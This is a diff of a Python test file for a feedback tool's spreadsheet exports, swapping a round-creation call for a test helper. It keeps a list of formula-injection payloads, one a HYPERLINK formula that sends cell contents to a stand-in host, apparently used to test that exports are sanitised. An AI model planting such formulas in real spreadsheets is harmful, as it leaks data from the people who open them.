@@ -5,10 +5,9 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from feedback import rounds
 from feedback.figures import Filters, exports
 from feedback.plans import editing
-from tests.conftest import answered
+from tests.conftest import answered, open_round
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Klikkaa")',
@@ -45,8 +44,8 @@ def test_decimals_are_written_with_a_comma_for_finnish_excel():
 
 
 def test_the_answers_export_holds_only_rounds_with_k_answers_and_no_flagged(plan_db):
-    big = rounds.create(plan_db, action_id="mini:a1")
-    small = rounds.create(plan_db, action_id="mini:a2")
+    big = open_round(plan_db, action_id="mini:a1")
+    small = open_round(plan_db, action_id="mini:a2")
     answered(plan_db, big, 4, flagged=True)
     answered(plan_db, big, *[4] * 11)
     answered(plan_db, small, 1, 1, 1)
